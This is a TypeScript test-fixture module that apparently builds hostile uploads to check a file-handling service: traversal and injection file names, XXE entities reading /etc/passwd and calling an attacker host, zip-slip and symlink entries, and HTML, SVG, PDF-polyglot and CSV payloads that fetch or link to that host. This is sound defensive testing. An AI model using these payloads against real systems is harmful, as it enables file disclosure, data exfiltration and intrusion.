import { readFileSync } from 'node:fs';
import { strToU8, zipSync } from 'fflate';
import { newId } from '@/lib/ids';
import type { UploadedFile } from './calls';

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const MAIN = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const RELATIONS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';

/** Names that a careless path, header or terminal would take for something else. */
export const HOSTILE_NAMES = [
  '../../../../tmp/escaped.md',
  '..\\..\\escaped.md',
  '/etc/escaped.md',
  'C:\\escaped.md',
  '.ssh/authorized_keys',
  'a".md"; filename="b.html',
  'inline; x.md',
  '%2e%2e%2fescaped.md',
  '\u202egnp.exe.md',
  '<img src=x onerror=alert(1)>.md',
  '=HYPERLINK("http://x")|.md',
  '-'.repeat(200),
  'CON.md',
];

/** Files that attack whoever opens them. `elsewhere`: the attacker's host, where nothing may arrive. */
export function hostileFiles(elsewhere: string): UploadedFile[] {
  const doctype = `<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY u SYSTEM "${elsewhere}/entity"><!ENTITY % p SYSTEM "${elsewhere}/dtd"> %p;]>`;
  const bad = (name: string) => ({
    name,
    bytes: new Uint8Array(readFileSync(`e2e/support/fixtures/bad/${name}`)),
    mediaType: name.endsWith('docx') ? WORD : 'application/octet-stream',
  });
  return [
    bad('bomb.docx'),
    bad('lying-bomb.docx'),
    bad('entities.docx'),
    word('entities of files and hosts.docx', `${doctype}${body('&f; &u;')}`),
    word('paths out of the archive.docx', body('text'), {
      '../../../../tmp/escaped-by-zip.txt': strToU8('escaped'),
      '/tmp/escaped-absolutely.txt': strToU8('escaped'),
      'word\\..\\..\\escaped.txt': strToU8('escaped'),
    }),
    word('a link out of the archive.docx', body('text'), {
      // A symbolic link in the attributes that Unix archivers write.
      'word/link': [strToU8('/etc/passwd'), { os: 3, attrs: (0o120777 << 16) >>> 0 }],
    }),
    word('a picture elsewhere.docx', body('text'), {
      'word/_rels/document.xml.rels': strToU8(
        `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${elsewhere}/picture" TargetMode="External"/></Relationships>`,
      ),
    }),
    page(
      'page.html',
      `<html><head><base href="${elsewhere}/"><link rel="stylesheet" href="${elsewhere}/css"><script src="${elsewhere}/js"></script></head><body><p>The page is about ${newId()}.</p><img src="${elsewhere}/img"><iframe src="file:///etc/passwd"></iframe></body></html>`,
    ),
    page(
      'polyglot.pdf',
      `%PDF-1.4\n<html><script>fetch('${elsewhere}/polyglot')</script><p>${newId()}</p></html>\n%%EOF`,
    ),
    page(
      'drawing.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${elsewhere}/svg')"><text>${newId()}</text></svg>`,
    ),
    page('formulas.csv', `name,value\n=HYPERLINK("${elsewhere}/csv"),1\n@SUM(1),${newId()}\n`),
    page(
      'pattern.md',
      `# ${newId()}\n\n${'a'.repeat(20_000)}!\n\n${'['.repeat(3_000)}${'*_'.repeat(2_000)}`,
    ),
  ];
}

function page(name: string, text: string): UploadedFile {
  return { name, bytes: text, mediaType: 'text/html' };
}

function body(text: string): string {
  return `<w:document xmlns:w="${MAIN}"><w:body><w:p><w:r><w:t>${newId()} ${text}</w:t></w:r></w:p></w:body></w:document>`;
}

type Entries = Parameters<typeof zipSync>[0];

function word(name: string, document: string, more: Entries = {}): UploadedFile {
  const bytes = zipSync({
    '[Content_Types].xml': strToU8(TYPES),
    '_rels/.rels': strToU8(RELATIONS),
    'word/document.xml': strToU8(`<?xml version="1.0"?>${document}`),
    ...more,
  });
  return { name, bytes: new Uint8Array(bytes), mediaType: WORD };
}
